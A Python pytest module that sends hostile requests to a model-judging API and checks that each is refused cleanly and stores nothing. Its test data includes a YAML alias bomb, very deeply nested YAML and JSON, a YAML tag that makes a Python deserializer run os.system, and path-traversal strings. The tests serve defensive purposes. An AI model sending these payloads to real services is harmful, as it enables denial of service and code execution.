"""Hostile input against the features added with issue 10: rubrics added at run time, experiments
created without judging and their export, generation settings, overlap checks, AlpacaEval imports.

Every refused request is a 4xx naming the field, and the row counts of every table are unchanged
afterwards (SQLite and PostgreSQL). Figures are checked against computations written here.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from judge_service.store import models
from tests.conftest import Service, pair_items, pairwise_body
from tests.fake_judge import FakeJudgeServer
from tests.test_hostile_input import Case, corpus_problems, row_counts, send

COUNTED = (
    models.Experiment,
    models.Pair,
    models.Run,
    models.Judgment,
    models.Label,
    models.RubricVersionRow,
    models.OverlapCheck,
    models.OverlapMatch,
)
ROOT = Path(__file__).resolve().parent.parent
GENERAL_V2 = (ROOT / "rubrics" / "general" / "v2.yaml").read_text(encoding="utf-8")
TEXT = ["body", "rubric_text"]


_NAMES = iter(range(10**6))


def rubric_yaml(
    name: str | None = None,
    version: Any = 1,
    *,
    description: str = "A rubric added by the hostile tests.",
    prompt: str = "pairwise@v2",
    dimensions: int = 1,
    decision: str = "decision:\n  method: holistic\n",
) -> str:
    name = name or f"hostile_rubric_{next(_NAMES)}"
    dims = "".join(
        f"  - key: d{i}\n    title: Helpfulness\n    description: Dimension {i}.\n    anchors:\n"
        + "".join(f"      {a}: anchor {a}\n" for a in range(1, 6))
        for i in range(dimensions)
    )
    return (
        f"name: {name}\nversion: {version}\ndescription: {json.dumps(description)}\nprompt: {prompt}\n"
        f"{decision}dimensions:\n{dims}"
    )


def add(text: str) -> dict[str, Any]:
    return {"rubric_text": text}


def gen_body(**generation: Any) -> dict[str, Any]:
    items = pair_items(1, prefix="g")
    items[0]["ft_generation"] = generation
    return pairwise_body(items, experiment="hostile-gen")


def alias_bomb() -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n" + rubric_yaml()


def corpus() -> list[Case]:
    deep_yaml = "description: " + "[" * 20_000 + "]" * 20_000
    deep_json_line = "[" * 30_000 + "]" * 30_000
    huge_int_line = '{"prompt": "x", "n": ' + "1" * 5_000 + "}"
    return [
        # -- POST /rubrics ----------------------------------------------------------------------
        Case("yaml alias bomb", "POST", "/rubrics", add(alias_bomb()), loc=TEXT),
        Case("deeply nested yaml", "POST", "/rubrics", add(deep_yaml), loc=TEXT),
        Case("rubric over the size limit", "POST", "/rubrics", add(rubric_yaml(description="x" * 70_000)), loc=TEXT),
        Case("nul in rubric text", "POST", "/rubrics", add(rubric_yaml() + "\x00"), loc=TEXT),
        Case("lone surrogate in rubric text", "POST", "/rubrics", add(rubric_yaml(description="\ud800")), loc=TEXT),
        Case(
            "yaml escape makes a NUL",
            "POST",
            "/rubrics",
            add(rubric_yaml().replace('"A rubric', '"\\0 A rubric')),
            loc=TEXT,
        ),
        Case(
            "yaml escape makes a lone surrogate",
            "POST",
            "/rubrics",
            add(rubric_yaml().replace('"A rubric', '"\\ud800 A rubric')),
            loc=TEXT,
        ),
        Case("non-utf-8 body", "POST", "/rubrics", raw=b'{"rubric_text": "name: x\xff\xfe"}', loc=["body"]),
        Case(
            "integer past the digit limit in a body",
            "POST",
            "/experiments",
            raw=b'{"name": "e", "base_model": "b", "ft_model": "f", "metadata": {"n": ' + b"9" * 5000 + b"}}",
            loc=["body"],
        ),
        Case("blank rubric", "POST", "/rubrics", add(" \n\u200b"), loc=TEXT),
        Case("duplicate top-level key", "POST", "/rubrics", add("name: shown\n" + rubric_yaml("used")), loc=TEXT),
        Case(
            "duplicate anchor key",
            "POST",
            "/rubrics",
            add(rubric_yaml().replace("      5: anchor 5\n", "      5: anchor 5\n      1: other\n")),
            loc=TEXT,
        ),
        Case("yaml list, not mapping", "POST", "/rubrics", add("- a\n- b\n"), loc=TEXT),
        Case("yaml python tag", "POST", "/rubrics", add("!!python/object/apply:os.system ['true']\n"), loc=TEXT),
        Case("rubric_text not a string", "POST", "/rubrics", {"rubric_text": 5}, loc=TEXT),
        Case("extra field", "POST", "/rubrics", {**add(rubric_yaml()), "force": True}, loc=["body", "force"]),
        Case("name with slash", "POST", "/rubrics", add(rubric_yaml(name="a/b")), loc=[*TEXT, "name"]),
        Case("name with @", "POST", "/rubrics", add(rubric_yaml(name="a@v2")), loc=[*TEXT, "name"]),
        Case("cyrillic look-alike name", "POST", "/rubrics", add(rubric_yaml(name="gеneral")), loc=[*TEXT, "name"]),
        Case("name too long", "POST", "/rubrics", add(rubric_yaml(name="a" * 101)), loc=[*TEXT, "name"]),
        Case("name with trailing newline", "POST", "/rubrics", add(rubric_yaml(name='"abc\\n"')), loc=[*TEXT, "name"]),
        Case("version 0", "POST", "/rubrics", add(rubric_yaml(version=0)), loc=[*TEXT, "version"]),
        Case("version negative", "POST", "/rubrics", add(rubric_yaml(version=-3)), loc=[*TEXT, "version"]),
        Case("version past int32", "POST", "/rubrics", add(rubric_yaml(version=2**31)), loc=[*TEXT, "version"]),
        Case("version huge", "POST", "/rubrics", add(rubric_yaml(version=10**40)), loc=[*TEXT, "version"]),
        Case("version a boolean", "POST", "/rubrics", add(rubric_yaml(version="true")), loc=[*TEXT, "version"]),
        Case("version a fraction", "POST", "/rubrics", add(rubric_yaml(version=1.5)), loc=[*TEXT, "version"]),
        Case("version NaN", "POST", "/rubrics", add(rubric_yaml(version=".nan")), loc=[*TEXT, "version"]),
        Case(
            "dimension key colliding with the verdict's tags",
            "POST",
            "/rubrics",
            add(rubric_yaml().replace("key: d0", "key: tags")),
            loc=[*TEXT, "dimensions", 0, "key"],
        ),
        Case("40 dimensions", "POST", "/rubrics", add(rubric_yaml(dimensions=40)), loc=[*TEXT, "dimensions"]),
        Case(
            "unknown template",
            "POST",
            "/rubrics",
            add(rubric_yaml(prompt="nosuch@v1")),
            loc=[*TEXT, "prompt"],
        ),
        Case(
            "template version past any file",
            "POST",
            "/rubrics",
            add(rubric_yaml(prompt="pairwise@v" + "9" * 40)),
            loc=[*TEXT, "prompt"],
        ),
        Case(
            "template version with a leading zero",
            "POST",
            "/rubrics",
            add(rubric_yaml(prompt="pairwise@v01")),
            loc=[*TEXT, "prompt"],
        ),
        Case(
            "template version of 5,000 digits (int() refuses past 4,300)",
            "POST",
            "/rubrics",
            add(rubric_yaml(prompt="pairwise@v" + "1" * 5_000)),
            loc=[*TEXT, "prompt"],
        ),
        Case(
            "template path traversal",
            "POST",
            "/rubrics",
            add(rubric_yaml(prompt="../pairwise@v1")),
            loc=[*TEXT, "prompt"],
        ),
        Case(
            "tie margin NaN",
            "POST",
            "/rubrics",
            add(rubric_yaml(decision="decision:\n  method: holistic\n  tie_margin: .nan\n")),
            loc=[*TEXT, "decision"],
        ),
        Case(
            "tie margin infinite",
            "POST",
            "/rubrics",
            add(rubric_yaml(decision="decision:\n  method: holistic\n  tie_margin: .inf\n")),
            loc=[*TEXT, "decision"],
        ),
        Case(
            "tie margin negative",
            "POST",
            "/rubrics",
            add(rubric_yaml(decision="decision:\n  method: holistic\n  tie_margin: -1\n")),
            loc=[*TEXT, "decision"],
        ),
        Case(
            "weight NaN",
            "POST",
            "/rubrics",
            add(rubric_yaml(decision="decision:\n  method: weighted\n  weights:\n    d0: .nan\n")),
            loc=[*TEXT, "decision"],
        ),
        Case(
            "weight negative",
            "POST",
            "/rubrics",
            add(rubric_yaml(decision="decision:\n  method: weighted\n  weights:\n    d0: -1\n")),
            loc=[*TEXT, "decision"],
        ),
        Case(
            "built-in name@v1 with other text",
            "POST",
            "/rubrics",
            add(GENERAL_V2.replace("Default rubric", "Changed rubric")),
            loc=TEXT,
            statuses=(409,),
        ),
        # -- POST /experiments --------------------------------------------------------------------
        Case(
            "experiment name with NUL",
            "POST",
            "/experiments",
            {"name": "e\x00", "base_model": "b", "ft_model": "f"},
            loc=["body", "name"],
        ),
        Case(
            "experiment name with surrogate",
            "POST",
            "/experiments",
            {"name": "e\ud800", "base_model": "b", "ft_model": "f"},
            loc=["body", "name"],
        ),
        Case(
            "experiment name too long",
            "POST",
            "/experiments",
            {"name": "e" * 201, "base_model": "b", "ft_model": "f"},
            loc=["body", "name"],
        ),
        Case(
            "experiment name a number",
            "POST",
            "/experiments",
            {"name": 7, "base_model": "b", "ft_model": "f"},
            loc=["body", "name"],
        ),
        Case(
            "experiment metadata NaN",
            "POST",
            "/experiments",
            raw=b'{"name": "e", "base_model": "b", "ft_model": "f", "metadata": {"x": NaN}}',
            loc=["body", "metadata"],
        ),
        *(
            Case(
                f"experiment metadata {key}={value!r}",
                "POST",
                "/experiments",
                {"name": "e-meta", "base_model": "b", "ft_model": "f", "metadata": {key: value}},
                loc=["body", "metadata"],
            )
            for key, value in (
                ("default_repeats", "abc"),
                ("default_repeats", [1]),
                ("default_repeats", 10**6),
                ("default_repeats", 0),
                ("default_repeats", True),
                ("tie_margin", "0.1"),
                ("tie_margin", 0.7),
                ("tie_margin", -1),
            )
        ),
        Case(
            "submission metadata default_repeats a string",
            "POST",
            "/judge/pairwise",
            {
                **pairwise_body(pair_items(1), experiment="meta-sub"),
                "experiment": {
                    "name": "meta-sub",
                    "base_model": "b",
                    "ft_model": "f",
                    "metadata": {"default_repeats": "abc"},
                },
            },
            loc=["body", "experiment", "metadata"],
        ),
        Case(
            "experiment metadata not an object",
            "POST",
            "/experiments",
            {"name": "e", "base_model": "b", "ft_model": "f", "metadata": [1]},
            loc=["body", "metadata"],
        ),
        Case(
            "experiment base model blank",
            "POST",
            "/experiments",
            {"name": "e", "base_model": "", "ft_model": "f"},
            loc=["body", "base_model"],
        ),
        Case(
            "experiment with other models",
            "POST",
            "/experiments",
            {"name": "exp-1", "base_model": "other", "ft_model": "ft-7b-sft"},
            loc=["body", "base_model"],
            statuses=(409,),
        ),
        Case(
            "experiment extra field",
            "POST",
            "/experiments",
            {"name": "e", "base_model": "b", "ft_model": "f", "id": 1},
            loc=["body", "id"],
        ),
        # -- GET /experiments/{experiment}/export -------------------------------------------------
        Case(
            "export unknown experiment", "GET", "/experiments/nope/export", loc=["path", "experiment"], statuses=(404,)
        ),
        Case(
            "export unknown rubric",
            "GET",
            "/experiments/exp-1/export",
            params={"rubric": "general@v999"},
            loc=["query", "rubric"],
            statuses=(404,),
        ),
        Case(
            "export judge matching nothing",
            "GET",
            "/experiments/exp-1/export",
            params={"judge": "ffff"},
            loc=["query", "judge"],
            statuses=(404,),
        ),
        Case(
            "export malformed rubric",
            "GET",
            "/experiments/exp-1/export",
            params={"rubric": "../../etc"},
            loc=["query", "rubric"],
        ),
        Case("export limit 0", "GET", "/experiments/exp-1/export", params={"limit": 0}, loc=["query", "limit"]),
        Case(
            "export offset past int64",
            "GET",
            "/experiments/exp-1/export",
            params={"offset": str(2**63)},
            loc=["query", "offset"],
        ),
        Case(
            "export judge with NUL",
            "GET",
            "/experiments/exp-1/export",
            params={"judge": "a\x00"},
            loc=["query", "judge"],
        ),
        Case("export bad mode", "GET", "/experiments/exp-1/export", params={"mode": "slow"}, loc=["query", "mode"]),
        # -- generation settings --------------------------------------------------------------------
        Case(
            "temperature NaN",
            "POST",
            "/judge/pairwise",
            raw=json.dumps(gen_body(temperature=float("nan"))).encode(),
            loc=["body", "items", 0, "ft_generation", "temperature"],
        ),
        Case(
            "temperature Infinity",
            "POST",
            "/judge/pairwise",
            raw=json.dumps(gen_body(temperature=float("inf"))).encode(),
            loc=["body", "items", 0, "ft_generation", "temperature"],
        ),
        Case(
            "temperature 1e400",
            "POST",
            "/judge/pairwise",
            raw=json.dumps(gen_body(temperature=0.5)).replace("0.5", "1e400").encode(),
            loc=["body", "items", 0, "ft_generation", "temperature"],
        ),
        Case(
            "temperature a boolean",
            "POST",
            "/judge/pairwise",
            gen_body(temperature=True),
            loc=["body", "items", 0, "ft_generation", "temperature"],
        ),
        Case(
            "temperature a string",
            "POST",
            "/judge/pairwise",
            gen_body(temperature="0.7"),
            loc=["body", "items", 0, "ft_generation", "temperature"],
        ),
        Case(
            "top_p above 1",
            "POST",
            "/judge/pairwise",
            gen_body(top_p=1.5),
            loc=["body", "items", 0, "ft_generation", "top_p"],
        ),
        Case(
            "max_tokens huge",
            "POST",
            "/judge/pairwise",
            gen_body(max_tokens=10**30),
            loc=["body", "items", 0, "ft_generation", "max_tokens"],
        ),
        Case(
            "max_tokens a boolean",
            "POST",
            "/judge/pairwise",
            gen_body(max_tokens=True),
            loc=["body", "items", 0, "ft_generation", "max_tokens"],
        ),
        Case(
            "max_tokens a fraction",
            "POST",
            "/judge/pairwise",
            gen_body(max_tokens=1.5),
            loc=["body", "items", 0, "ft_generation", "max_tokens"],
        ),
        Case(
            "seed past int64",
            "POST",
            "/judge/pairwise",
            gen_body(seed=2**63),
            loc=["body", "items", 0, "ft_generation", "seed"],
        ),
        Case(
            "seed a boolean",
            "POST",
            "/judge/pairwise",
            gen_body(seed=False),
            loc=["body", "items", 0, "ft_generation", "seed"],
        ),
        Case(
            "seed a string",
            "POST",
            "/judge/pairwise",
            gen_body(seed="42"),
            loc=["body", "items", 0, "ft_generation", "seed"],
        ),
        Case(
            "generation extra field",
            "POST",
            "/judge/pairwise",
            gen_body(top_k=40),
            loc=["body", "items", 0, "ft_generation", "top_k"],
        ),
        Case(
            "system prompt with NUL",
            "POST",
            "/judge/pairwise",
            gen_body(system_prompt="be nice\x00"),
            loc=["body", "items", 0, "ft_generation", "system_prompt"],
        ),
        Case(
            "system prompt with surrogate",
            "POST",
            "/judge/pairwise",
            gen_body(system_prompt="be nice\ud800"),
            loc=["body", "items", 0, "ft_generation", "system_prompt"],
        ),
        Case(
            "system prompt hash not hex",
            "POST",
            "/judge/pairwise",
            gen_body(system_prompt_sha256="z" * 64),
            loc=["body", "items", 0, "ft_generation", "system_prompt_sha256"],
        ),
        Case(
            "system prompt and other hash",
            "POST",
            "/judge/pairwise",
            gen_body(system_prompt="a", system_prompt_sha256="0" * 64),
            loc=["body", "items", 0, "ft_generation"],
        ),
        Case(
            "generation not an object",
            "POST",
            "/judge/pairwise",
            {**gen_body(), "experiment": {**gen_body()["experiment"], "base_generation": [0.7]}},
            loc=["body", "experiment", "base_generation"],
        ),
        # -- POST /experiments/{experiment}/overlap -------------------------------------------------
        Case(
            "overlap line not JSON",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": '{"prompt": "a"}\nnot json\n'},
            loc=["body", "train_jsonl"],
        ),
        Case(
            "overlap line not an object",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": "[1, 2]\n"},
            loc=["body", "train_jsonl"],
        ),
        Case(
            "overlap line nested past the recursion limit",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": deep_json_line},
            loc=["body", "train_jsonl"],
        ),
        Case(
            "overlap line with an integer past the digit limit",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": huge_int_line},
            loc=["body", "train_jsonl"],
        ),
        Case(
            "overlap train file with NUL",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": '{"prompt": "a\x00"}'},
            loc=["body", "train_jsonl"],
        ),
        Case(
            "overlap both sources",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": "{}", "records": [{}]},
            loc=["body"],
        ),
        Case(
            "overlap neither source",
            "POST",
            "/experiments/exp-1/overlap",
            {},
            loc=["body"],
        ),
        Case(
            "overlap record not an object",
            "POST",
            "/experiments/exp-1/overlap",
            {"records": [{"prompt": "a"}, "b"]},
            loc=["body", "records", 1],
        ),
        Case(
            "overlap threshold NaN",
            "POST",
            "/experiments/exp-1/overlap",
            raw=b'{"train_jsonl": "{}", "threshold": NaN}',
            loc=["body", "threshold"],
        ),
        Case(
            "overlap shingle 0",
            "POST",
            "/experiments/exp-1/overlap",
            {"train_jsonl": "{}", "shingle": 0},
            loc=["body", "shingle"],
        ),
        Case(
            "overlap unknown experiment",
            "POST",
            "/experiments/nope/overlap",
            {"train_jsonl": "{}"},
            loc=["path", "experiment"],
            statuses=(404,),
        ),
        Case(
            "exclude=overlap without a check",
            "GET",
            "/reports/win-rate",
            params={"experiment": "exp-1", "exclude": "overlap"},
            statuses=(409,),
        ),
        # -- labels in AlpacaEval format ------------------------------------------------------------
        *(
            Case(
                f"alpaca preference {shown}",
                "POST",
                "/experiments/alpaca-exp/labels",
                raw=(
                    '{"source": "alpaca", "format": "alpaca_eval", "records": [{"instruction": "Q", '
                    '"output_1": "a", "output_2": "b", "generator_1": "m1", "generator_2": "m2", "preference": '
                    + literal
                    + "}]}"
                ).encode(),
                loc=["body", "records", 0, "preference"],
            )
            for shown, literal in (
                ("string", '"1.5"'),
                ("true", "true"),
                ("false", "false"),
                ("2.5", "2.5"),
                ("Infinity", "Infinity"),
                ("-1", "-1"),
                ("a list", "[1.5]"),
            )
        ),
    ]


async def setup_data(svc: Service) -> None:
    reply = await svc.http.post(
        "/judge/pairwise", json=pairwise_body(pair_items(4), experiment="exp-1"), headers=svc.auth("submit")
    )
    assert reply.status_code == 200, reply.text


async def test_hostile_corpus_is_refused_and_stores_nothing(service: Service) -> None:
    await setup_data(service)
    problems = await corpus_problems(service, corpus(), COUNTED)
    assert not problems, "\n".join(problems)


# -- rubrics added at run time -------------------------------------------------------------------


async def test_concurrent_identical_rubric_adds_give_one_201_and_one_200(service: Service) -> None:
    """Two requests at once with the same text: one stores it, the other finds it (no 500 on the unique key)."""
    admin = service.auth("admin")
    text = rubric_yaml("race_rubric", dimensions=2)
    replies = await asyncio.gather(*(service.http.post("/rubrics", json=add(text), headers=admin) for _ in range(2)))
    assert sorted(r.status_code for r in replies) == [200, 201], [r.text for r in replies]
    assert {r.json()["content_hash"] for r in replies} == {replies[0].json()["content_hash"]}
    # Two different texts under one name@vN at once: one is stored, the other is a 409 with the diff.
    texts = [rubric_yaml("race_other", description=f"text {i}") for i in range(2)]
    replies = await asyncio.gather(*(service.http.post("/rubrics", json=add(t), headers=admin) for t in texts))
    assert sorted(r.status_code for r in replies) == [201, 409], [r.text for r in replies]
    conflict = next(r for r in replies if r.status_code == 409).json()["detail"][0]
    assert conflict["loc"] == ["body", "rubric_text"] and '-description: "text' in conflict["diff"]
    async with service.ctx.sessions() as session:
        stored = (await session.execute(select(func.count()).select_from(models.RubricVersionRow))).scalar_one()
    assert stored == 2


async def test_builtin_rubric_text_changed_is_a_409_with_the_diff(service: Service) -> None:
    admin = service.auth("admin")
    same = await service.http.post("/rubrics", json=add(GENERAL_V2), headers=admin)
    assert same.status_code == 200 and same.json()["created"] is False and same.json()["origin"] == "file"
    changed = GENERAL_V2.replace("Default rubric", "Changed rubric")
    reply = await service.http.post("/rubrics", json=add(changed), headers=admin)
    assert reply.status_code == 409, reply.text
    diff = reply.json()["detail"][0]["diff"]
    assert "-  Default rubric for general" in diff and "+  Changed rubric for general" in diff
    assert (
        await service.http.post("/rubrics", json=add(GENERAL_V2), headers=service.auth("submit"))
    ).status_code == 403


async def test_added_rubric_is_listed_shown_and_judges(service: Service, fake_judge: FakeJudgeServer) -> None:
    """A valid but unusual rubric (non-ASCII, Jinja-looking text, a weighted rule) is stored, shown and used."""
    admin = service.auth("admin")
    decision = "decision:\n  method: weighted\n  tie_margin: 0.5\n  weights:\n    d0: 2\n    d1: 0\n"
    text = rubric_yaml("odd_rubric", description="Ünïcödé {{ 7*7 }} {% raw %} <<<", dimensions=2, decision=decision)
    reply = await service.http.post("/rubrics", json=add(text), headers=admin)
    assert reply.status_code == 201, reply.text
    shown = await service.http.get("/rubrics/odd_rubric/1", headers=service.auth("read"))
    assert shown.status_code == 200 and shown.json()["rubric"]["description"].startswith("Ünïcödé {{ 7*7 }}")
    body = pairwise_body(pair_items(2), experiment="odd-exp", rubric="odd_rubric@v1")
    judged = await service.http.post("/judge/pairwise", json=body, headers=service.auth("submit"))
    assert judged.status_code == 200, judged.text
    assert judged.json()["rubric"] == "odd_rubric@v1" and judged.json()["status"] == "done"
    # The rubric's text reaches the judge as written, never evaluated as a template.
    systems = [m["content"] for r in fake_judge.state.requests for m in r["messages"] if m["role"] == "system"]
    assert systems and all("Ünïcödé {{ 7*7 }} {% raw %}" in s for s in systems)
    export = await service.http.get("/experiments/odd-exp/export", headers=service.auth("read"))
    assert export.status_code == 200 and export.json()["rubric"] == "odd_rubric@v1"
    assert all(set(p["dimensions"]) == {"d0", "d1"} for p in export.json()["items"])


# -- experiments -------------------------------------------------------------------------------------


async def test_concurrent_experiment_creates_give_one_201_and_one_200(service: Service) -> None:
    body = {"name": "race/exp", "base_model": "b", "ft_model": "f", "metadata": {"k": 1}}
    submit = service.auth("submit")
    replies = await asyncio.gather(*(service.http.post("/experiments", json=body, headers=submit) for _ in range(2)))
    assert sorted(r.status_code for r in replies) == [200, 201], [r.text for r in replies]
    assert replies[0].json()["id"] == replies[1].json()["id"]
    other = await service.http.post("/experiments", json={**body, "ft_model": "g"}, headers=submit)
    assert other.status_code == 409 and other.json()["detail"][0]["loc"] == ["body", "ft_model"]
    export = await service.http.get("/experiments/race/exp/export", headers=service.auth("read"))
    assert export.status_code == 200 and export.json() | {"items": []} == {
        "experiment": "race/exp",
        "rubric": None,
        "mode": "reasoned",
        "total": 0,
        "offset": 0,
        "items": [],
    }


# -- generation settings -------------------------------------------------------------------------

# (pair, base settings, ft settings, expected status, expected per-field status), written by hand.
GENERATION_CASES: list[tuple[str, Any, Any, str, dict[str, str]]] = [
    (
        "same",
        {"temperature": 0.7, "seed": 1},
        {"temperature": 0.7, "seed": 1},
        "matched",
        {"temperature": "equal", "seed": "equal"},
    ),
    ("temp differs", {"temperature": 0.7}, {"temperature": 1.0}, "mismatched", {"temperature": "different"}),
    ("top_p one side", {"temperature": 0.7, "top_p": 0.9}, {"temperature": 0.7}, "unknown", {"temperature": "equal"}),
    ("base missing", None, {"temperature": 0.7}, "unknown", {}),
    ("none", None, None, "unknown", {}),
    (
        "seed differs, top_p one side",
        {"seed": 1, "max_tokens": 100},
        {"seed": 2, "max_tokens": 100, "top_p": 0.5},
        "mismatched",
        {"seed": "different", "max_tokens": "equal"},
    ),
    ("both empty", {}, {}, "unknown", {}),
    ("1 and 1.0", {"temperature": 1}, {"temperature": 1.0}, "matched", {"temperature": "equal"}),
    (
        "prompt vs its hash",
        {"seed": 1, "system_prompt": "be nice"},
        {"seed": 1, "system_prompt_sha256": "HASH"},
        "matched",
        {"seed": "equal", "system_prompt_sha256": "equal"},
    ),
]
FIELDS = ("temperature", "top_p", "max_tokens", "seed", "system_prompt_sha256")


async def test_generation_block_matches_a_hand_count(service: Service) -> None:
    import hashlib

    digest = hashlib.sha256(b"be nice").hexdigest().upper()  # upper case: the service compares lower-cased
    items = pair_items(len(GENERATION_CASES), prefix="gen")
    for item, (_, base, ft, _, _) in zip(items, GENERATION_CASES, strict=True):
        if base is not None:
            item["base_generation"] = base
        if ft is not None:
            item["ft_generation"] = {k: (digest if v == "HASH" else v) for k, v in ft.items()}
    reply = await service.http.post(
        "/judge/pairwise", json=pairwise_body(items, experiment="gen-mix"), headers=service.auth("submit")
    )
    assert reply.status_code == 200, reply.text
    report = await service.http.get("/reports/win-rate", params={"experiment": "gen-mix"}, headers=service.auth("read"))
    assert report.status_code == 200, report.text
    block = report.json()["generation"]
    statuses = [case[3] for case in GENERATION_CASES]
    assert block["n_pairs"] == len(GENERATION_CASES) == 9
    assert block["pairs_with_settings"] == sum(1 for c in GENERATION_CASES if (c[1], c[2]) != (None, None)) == 8
    assert (
        (block["matched_pairs"], block["mismatched_pairs"], block["unknown_pairs"])
        == (
            statuses.count("matched"),
            statuses.count("mismatched"),
            statuses.count("unknown"),
        )
        == (3, 2, 4)
    )
    for name in FIELDS:
        kinds = [case[4].get(name, "unknown") for case in GENERATION_CASES]
        wanted = {k: kinds.count(k) for k in ("equal", "different", "unknown")}
        assert block["fields"][name] == wanted, name
    assert block["differing_fields"] == {"temperature": 1, "seed": 1}
    codes = {w["code"]: w for w in report.json()["overall"]["warnings"]}
    assert "generation_mismatch" in codes and "generation_unknown" in codes
    assert "2 of 9 pairs" in codes["generation_mismatch"]["message"]
    assert "4 of 9 pairs" in codes["generation_unknown"]["message"]


# -- overlap checks ------------------------------------------------------------------------------


async def test_overlap_shapes_empty_files_and_everything_excluded(service: Service) -> None:
    admin, read, submit = service.auth("admin"), service.auth("read"), service.auth("submit")
    items = pair_items(4, prefix="o")
    reply = await service.http.post("/judge/pairwise", json=pairwise_body(items, experiment="ovl"), headers=submit)
    assert reply.status_code == 200, reply.text
    prompts = [i["prompt"] for i in items]
    lines = [
        {"messages": "not a list"},
        {"messages": [1, "two", None]},
        {"messages": [{"role": "user", "content": 5}]},
        {"messages": [{"role": {"nested": True}, "content": prompts[3]}]},  # no user turn
        {"messages": [{"role": "user", "content": [{"type": "text", "text": prompts[0]}, {"type": "image"}]}]},
        {"messages": [{"role": "USER", "content": prompts[1].upper()}]},  # casefolded: still exact
        {"conversations": [{"from": "human", "value": prompts[2]}]},
        {"prompt": ["not", "a", "string"]},
        {},
    ]
    train = "\ufeff" + "\r\n".join(json.dumps(line) for line in lines) + "\r\n\r\n   \n"
    reply = await service.http.post("/experiments/ovl/overlap", json={"train_jsonl": train}, headers=admin)
    assert reply.status_code == 200, reply.text
    check = reply.json()
    assert (check["train_lines"], check["train_lines_with_text"]) == (9, 3)
    assert sorted(m["pair_id"] for m in check["matches"]) == ["o0", "o1", "o2"]
    assert {m["kind"] for m in check["matches"]} == {"exact"}

    # Every pair excluded: the report answers and concludes nothing.
    lines.append({"prompt": prompts[3]})
    reply = await service.http.post("/experiments/ovl/overlap", json={"records": lines}, headers=admin)
    assert reply.status_code == 200 and reply.json()["exact"] == 4, reply.text
    report = await service.http.get(
        "/reports/win-rate", params={"experiment": "ovl", "exclude": "overlap"}, headers=read
    )
    assert report.status_code == 200, report.text
    overall = report.json()["overall"]
    assert overall["n_pairs"] == 0 and overall["conclusion"] == "not_enough_evidence"
    assert report.json()["excluded"]["overlap"]["excluded_pairs"] == 4
    assert report.json()["generation"]["n_pairs"] == 0 and report.json()["generation"]["unknown_pairs"] == 0
    grouped = await service.http.get(
        "/reports/win-rate", params={"experiment": "ovl", "exclude": "overlap", "group_by": "category"}, headers=read
    )
    assert grouped.status_code == 200 and grouped.json()["slices"] == [], grouped.text
    failures = await service.http.get(
        "/reports/failures", params={"experiment": "ovl", "exclude": "overlap"}, headers=read
    )
    assert failures.status_code == 200, failures.text

    # A training file with nothing to compare is refused: it would store a check finding nothing that
    # exclude=overlap would then read instead of the real one.
    before = await row_counts(service, COUNTED)
    for body, loc in (
        ({"train_jsonl": ""}, ["body", "train_jsonl"]),
        ({"train_jsonl": "\n \r\n"}, ["body", "train_jsonl"]),
        ({"train_jsonl": '{"text": "another format"}'}, ["body", "train_jsonl"]),
        ({"records": []}, ["body", "records"]),
        ({"records": [{"messages": []}]}, ["body", "records"]),
    ):
        refused = await service.http.post("/experiments/ovl/overlap", json=body, headers=admin)
        assert refused.status_code == 422 and refused.json()["detail"][0]["loc"] == loc, (body, refused.text)
        assert "nothing to compare" in refused.json()["detail"][0]["msg"]
    assert await row_counts(service, COUNTED) == before
    newest = (await service.http.get("/experiments/ovl/overlap", headers=read)).json()
    assert newest["exact"] == 4

    # An experiment without pairs: the check answers, finding nothing among 0 eval prompts.
    created = await service.http.post(
        "/experiments", json={"name": "no-pairs", "base_model": "b", "ft_model": "f"}, headers=submit
    )
    assert created.status_code == 201
    reply = await service.http.post(
        "/experiments/no-pairs/overlap", json={"train_jsonl": '{"prompt": "a"}'}, headers=admin
    )
    assert reply.status_code == 200 and (reply.json()["eval_pairs"], reply.json()["matches"]) == (0, []), reply.text


# -- AlpacaEval preferences that are accepted ---------------------------------------------------


async def test_alpaca_preferences_at_the_edges(service: Service) -> None:
    """-0.0 is AlpacaEval 1's draw, 1.0000001 a (barely) soft preference, NaN and null dropped and counted."""
    literals = ["-0.0", "1.0000001", "NaN", "null", "1", "2", "1.5", "0"]
    records = ",".join(
        f'{{"instruction": "Q{i}", "output_1": "a", "output_2": "b", "generator_1": "m1", "generator_2": "m2", '
        f'"preference": {literal}}}'
        for i, literal in enumerate(literals)
    )
    raw = ('{"source": "alpaca", "format": "alpaca_eval", "records": [' + records + "]}").encode()
    reply = await send(service, Case("alpaca", "POST", "/experiments/alpaca-edges/labels", raw=raw))
    assert reply.status_code == 200, reply.text
    summary = reply.json()
    assert (summary["records"], summary["inserted"], summary["nulls_dropped"], summary["draws"]) == (6, 6, 2, 3)
    async with service.ctx.sessions() as session:
        scores = {
            prompt: score
            for prompt, score in (
                await session.execute(
                    select(models.Pair.prompt, models.Label.s_ft).join(
                        models.Label, models.Label.pair_id == models.Pair.id
                    )
                )
            ).all()
        }
    # s_ft = preference - 1 (1 = output_1 = Base wins, 2 = FT wins); 0 and -0.0 are draws.
    assert scores == pytest.approx({"Q0": 0.5, "Q1": 1e-7, "Q4": 0.0, "Q5": 1.0, "Q6": 0.5, "Q7": 0.5})


# -- client files and the CLI --------------------------------------------------------------------


def test_client_pair_files_refuse_cleanly(tmp_path: Path) -> None:
    from judge_service.client.files import PairFileError, join_files

    base = tmp_path / "base.jsonl"
    base.write_bytes(
        b'\xef\xbb\xbf{"id": 1, "prompt": "q", "output": "a"}\r\n\r\n  \r\n'
        b'{"id": "2", "prompt": "q2", "output": "a2"}\r\n'
    )
    ft = tmp_path / "ft.jsonl"
    ft.write_text('{"id": "1", "prompt": "q", "output": "b"}\n{"id": 2, "prompt": "q2", "output": "b2"}')
    joined = join_files(base, ft)  # a BOM, CRLF, blank lines, ids as numbers on one side and strings on the other
    assert [(i["id"], i["base_output"], i["ft_output"]) for i in joined.items] == [("1", "a", "b"), ("2", "a2", "b2")]
    assert joined.problems == []
